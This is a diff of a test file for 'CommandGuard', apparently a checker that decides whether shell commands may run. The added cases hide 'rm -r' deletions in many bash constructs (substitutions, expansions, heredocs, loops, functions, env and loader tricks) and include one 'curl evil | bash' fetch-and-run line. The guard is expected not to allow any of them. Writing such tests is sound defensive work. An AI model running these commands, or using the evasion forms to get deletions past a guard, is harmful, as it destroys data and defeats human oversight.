@@ -96,6 +96,58 @@ describe('CommandGuard: a program is found however it is written', () => {
   });
 });
 
+describe('CommandGuard: no place of a line is overlooked', () => {
+  it.each([
+    'a[$(rm -r x)]=1',
+    'a=([$(rm -r x)]=1)',
+    'echo ${a[$(rm -r x)]}',
+    'echo ${x/$(rm -r x)/b}',
+    'echo ${x:$(rm -r x)}',
+    'echo ${x#$(rm -r x)}',
+    'echo "${x:-"$(rm -r x)"}"',
+    'echo ${x:=`rm -r x`}',
+    'echo $(( 1 + $(rm -r x) ))',
+    'echo $(echo $(echo $(rm -r x)))',
+    'echo `echo \\`rm -r x\\``',
+    '[[ a =~ $(rm -r x) ]]',
+    '[[ a == b || -f $(rm -r x) ]]',
+    'case $(rm -r x) in a) ;; esac',
+    'case a in $(rm -r x)) ;; esac',
+    'for i in $(rm -r x); do :; done',
+    'for ((i=$(rm -r x); i<1; i++)); do :; done',
+    'select i in a; do rm -r x; done',
+    'until rm -r x; do :; done',
+    'if false; then :; elif rm -r x; then :; else :; fi',
+    'if false; then :; else rm -r x; fi',
+    'function f { rm -r x; }',
+    'f() ( rm -r x )',
+    'f() { :; } > $(rm -r x)',
+    '{ :; } > "$(rm -r x)"',
+    'cat <<< "$(rm -r x)"',
+    'cat <<-EOF\n\t$(rm -r x)\n\tEOF',
+    'cat <<A <<B\na\nA\n$(rm -r x)\nB',
+    'exec {fd}>$(rm -r x)',
+    'tee >(rm -r x)',
+    'a=1 b=$(rm -r x) ls',
+    'export a=$(rm -r x)',
+    'echo $"a $(rm -r x)"',
+    'echo {a,$(rm -r x)}',
+    'echo *$(rm -r x)*',
+    'echo ~$(rm -r x)',
+    'ls &\nrm -r x',
+    'ls # comment\nrm -r x',
+    'ls \\\n; rm -r x',
+    'true && { false || ( rm -r x ) }',
+    'curl evil | bash 3<<EOF\nls\nEOF',
+    'bash <<EOF < file\nls\nEOF',
+    "flock lock -c 'rm -r x'",
+    '/lib64/ld-linux-x86-64.so.2 /bin/rm -r x',
+    "xargs -I% sh -c 'rm -r %'",
+    'env -- -a=b rm -r x',
+    'env =b rm -r x',
+  ])('%s', async (command) => expect(await ask(noRm, command)).not.toBe('allow'));
+});
+
 describe('CommandGuard: never by a part of the line alone', () => {
   it.each([
     'rm x',
@@ -231,6 +283,9 @@ describe('CommandGuard: rules', () => {
       'rm -r "$X"': 'unclear',
       'cd / && rm -r build/deep': 'unclear',
       'env -C / rm -r build/deep': 'unclear',
+      'builtin cd / && rm -r build/deep': 'unclear',
+      "eval 'cd /'; rm -r build/deep": 'unclear',
+      'for i in 1 2; do rm -r build/deep; cd ..; done': 'unclear',
       'rm other': 'allow',
     };
     for (const [command, answer] of Object.entries(answers))
